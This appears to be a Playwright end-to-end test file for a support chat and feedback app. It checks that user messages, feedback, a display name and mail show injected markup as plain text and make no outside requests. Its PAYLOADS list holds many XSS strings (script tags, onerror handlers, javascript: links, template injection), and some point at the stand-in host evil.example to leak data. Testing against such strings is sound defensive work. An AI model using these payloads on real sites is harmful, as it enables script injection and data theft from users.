import { randomUUID } from "node:crypto";
import type { Page } from "@playwright/test";
import { apiOf, origin } from "./support/api.ts";
import { people } from "./support/cast.ts";
import { bubblesOf, row, isNext } from "./support/chat.ts";
import { stored } from "./support/database.ts";
import { desktop, expect, test } from "./support/test.ts";

const PAYLOADS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<a href=javascript:alert(1)>click</a>",
  "[click](javascript:alert(1))",
  "[click](data:text/html,<script>alert(1)</script>)",
  "[click](vbscript:msgbox)",
  "![tracker](https://evil.example/x.png?secret=1)",
  "[link](https://evil.example/steal)",
  "[ref]: https://evil.example/ref",
  'https://evil.example/"onmouseover="alert(1)',
  "<https://evil.example/auto>",
  "<body onload=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<math><mtext></p><style><img src=x onerror=alert(1)></style></math>",
  "<form action=https://evil.example><input name=a autofocus onfocus=alert(1)></form>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<style>@import 'https://evil.example/x.css'</style>",
  "<base href=https://evil.example/>",
  "</textarea><script>alert(1)</script>",
  '"><script>alert(1)</script>',
  "'-alert(1)-'",
  "${alert(1)} {{constructor.constructor('alert(1)')()}}",
  "javascript:alert(1)//",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "\u202Egnp.exe<script>alert(1)</script>",
  "**<img src=x onerror=alert(1)>**",
];

/** Addresses outside of ours that the page asked for. */
function watchOutside(page: Page) {
  const asked: string[] = [];
  page.on("request", (request) => {
    if (!request.url().startsWith(origin()) && !/^(data|blob):/.test(request.url()))
      asked.push(request.url());
  });
  return asked;
}

const textsOf = async (page: Page, speaker: string) =>
  (await bubblesOf(page, speaker).getByRole("paragraph").allInnerTexts()).map((text) =>
    text.trim(),
  );

test("code in a message is text on both sides, runs nowhere and loads nothing", async ({
  browse,
}) => {
  const customer = await browse("maja");
  await customer.goto("/chat?person=1");
  await expect(isNext(customer)).toBeVisible();
  const agent = await browse("grace", { size: desktop });
  await agent.goto("/admin/desk");
  const outside = [watchOutside(customer), watchOutside(agent)];
  await row(agent, "Maja Nyström").click();
  await agent.getByRole("button", { name: "Take over" }).click();
  await expect(agent.getByLabel("Reply to Maja Nyström")).toBeVisible();

  const api = apiOf(customer.context());
  for (const text of PAYLOADS)
    await api.conversations.send.mutate({ clientKey: randomUUID(), text });

  await expect.poll(() => textsOf(customer, "You")).toEqual(PAYLOADS);
  await expect.poll(() => textsOf(agent, "Maja Nyström")).toEqual(PAYLOADS);
  await agent.goto("/admin/desk");
  await expect(row(agent, "Maja Nyström")).toContainText("**<img src=x");
  await agent.reload();
  await customer.reload();
  await expect.poll(() => textsOf(customer, "You")).toEqual(PAYLOADS);
  expect(outside).toEqual([[], []]);

  await apiOf(agent.context()).conversations.resolve.mutate({
    id: (await api.conversations.current.query()).conversation?.id ?? "",
  });
  await customer.goto("/chat/history");
  await expect(customer.getByRole("link", { name: /With .?Grace Okonkwo/i }).first()).toBeVisible();
});

const rename = (name: string) =>
  stored("update person set name = $2 where email = $1", people.maja, name);

test.afterEach(() => rename("Maja Nyström"));

/** As many as may be said within an hour. */
const inEight = Array.from({ length: 8 }, (_, part) =>
  PAYLOADS.filter((_payload, index) => index % 8 === part).join("\n"),
);

/** Whatever stands in the text, it is found as it was written. */
const saying = (page: Page, text: string) =>
  page.getByText(text, { exact: true }).and(page.locator(":not([aria-live] *)"));

test("code in feedback is text in the inbox, in the detail, in the portal and in the mail", async ({
  browse,
}) => {
  test.slow();
  const customer = await browse("maja");
  const agent = await browse("grace", { size: desktop });
  const outside = [watchOutside(customer), watchOutside(agent)];
  const [ours, theirs] = [apiOf(agent.context()), apiOf(customer.context())];
  await rename(`Maja ${PAYLOADS[1]}`);

  for (const text of inEight) {
    const clientKey = randomUUID();
    const { id } = await theirs.feedback.submit.mutate({
      clientKey,
      kind: "idea",
      text,
      mayWrite: true,
    });
    await ours.feedback.reply.mutate({ id, clientKey: randomUUID(), text });
    await ours.feedback.note.mutate({ id, clientKey: randomUUID(), text });
    await agent.goto(`/admin/feedback/${id}?status=all`);
    await expect(agent.getByRole("heading", { level: 2 })).toContainText("<img src=x");
    // In the list, in the pane, in the reply and in the note.
    await expect(saying(agent, text)).toHaveCount(4);
    await customer.goto(`/feedback/${id}`);
    await expect(saying(customer, text)).toHaveCount(2);
  }
  await customer.goto("/feedback");
  // For a moment the page that loads and the one that has loaded both hold it.
  for (const text of inEight) await expect(saying(customer, text)).toHaveCount(1);
  await customer.goto("/mail");
  for (const payload of PAYLOADS.filter((text) => !text.includes("https://")))
    await expect(customer.getByText(`> ${payload}`).first()).toBeVisible();
  expect(outside).toEqual([[], []]);
});
